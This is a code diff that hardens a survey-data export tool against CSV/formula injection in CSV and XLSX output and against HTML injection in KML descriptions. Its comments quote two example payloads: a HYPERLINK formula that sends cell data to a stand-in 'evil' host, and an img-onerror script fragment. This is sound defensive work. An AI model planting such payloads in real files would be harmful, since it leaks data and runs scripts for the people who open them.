@@ -15,6 +15,7 @@ import contextlib
 import csv
 import functools
 import hashlib
+import html
 import json
 import os
 import re
@@ -294,6 +295,32 @@ def quota_tables(db: Database, config: Config) -> dict[str, dict]:
 
 # -- writers ---------------------------------------------------------------------------
 
+# Text a spreadsheet program would take as a formula (OWASP "CSV injection"): names, notes
+# and agencies come from registry files and from surveyors, so any of them can be
+# `=HYPERLINK("http://evil/?"&A1,"click")`. Tab and CR are on the list because some
+# programs skip them before looking for a formula sign.
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_csv(value):
+    """A CSV cell that opens as the text it is: formula-leading text gets a leading quote."""
+    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
+        return "'" + value
+    return value
+
+
+def _append_as_text(sheet, values) -> None:
+    """Append a row; a cell openpyxl took for a formula (text starting '=') stays text.
+
+    In XLSX the cell type says what a value is, so the text is kept exactly as written
+    (no quote prefix) and Excel shows it instead of running it.
+    """
+    sheet.append(values)
+    for cell in sheet[sheet.max_row]:
+        if cell.data_type == "f":
+            cell.data_type = "s"
+
+
 
 def write_xlsx(path: Path, found: list[dict], quotas: dict[str, dict],
                columns=HANDIN_COLUMNS) -> None:
@@ -308,7 +335,7 @@ def write_xlsx(path: Path, found: list[dict], quotas: dict[str, dict],
     headers = [header for _key, header, _get in columns]
     sheet.append(headers)
     for values in rows_as_lists(found, columns):
-        sheet.append(values)
+        _append_as_text(sheet, values)
     bold, fill = Font(bold=True), PatternFill("solid", fgColor="DDE6F5")
     for cell in sheet[1]:
         cell.font, cell.fill = bold, fill
@@ -334,7 +361,7 @@ def _write_quota_sheet(summary, quotas: dict[str, dict], bold, fill) -> None:
         for cell in summary[summary.max_row]:
             cell.font, cell.fill = bold, fill
         for r in result["rows"]:
-            summary.append(_quota_row(r))
+            _append_as_text(summary, _quota_row(r))
         total = _quota_row({**result["totals"], "code": "", "name": "รวม"})
         summary.append(total)
         for cell in summary[summary.max_row]:
@@ -354,7 +381,7 @@ def write_csv(path: Path, found: list[dict], columns=HANDIN_COLUMNS) -> None:
     with open(path, "w", encoding="utf-8-sig", newline="") as fh:
         writer = csv.writer(fh)
         writer.writerow([header for _key, header, _get in columns])
-        writer.writerows(rows_as_lists(found, columns))
+        writer.writerows([inert_csv(v) for v in row] for row in rows_as_lists(found, columns))
 
 
 KML_NS = "http://www.opengis.net/kml/2.2"
@@ -381,8 +408,10 @@ def write_kml(path: Path, found: list[dict]) -> None:
         facts = [(h, get(r)) for key, h, get in HANDIN_COLUMNS
                  if key in ("agency", "amphoe", "survey_state", "review_state", "distance_m",
                             "accuracy_m", "stream_verdict", "photos", "surveyor", "surveyed_at")]
-        ET.SubElement(mark, "description").text = "\n".join(
-            f"{h}: {v}" for h, v in facts if v not in (None, ""))
+        # Viewers render a description as HTML: escaped once here (ElementTree escapes it
+        # again for XML), a site name such as "<img src=x onerror=...>" shows as text.
+        ET.SubElement(mark, "description").text = html.escape("\n".join(
+            f"{h}: {v}" for h, v in facts if v not in (None, "")))
         ET.SubElement(mark, "styleUrl").text = "#" + _kml_style(r)
         data = ET.SubElement(mark, "ExtendedData")
         for key, header, get in HANDIN_COLUMNS:
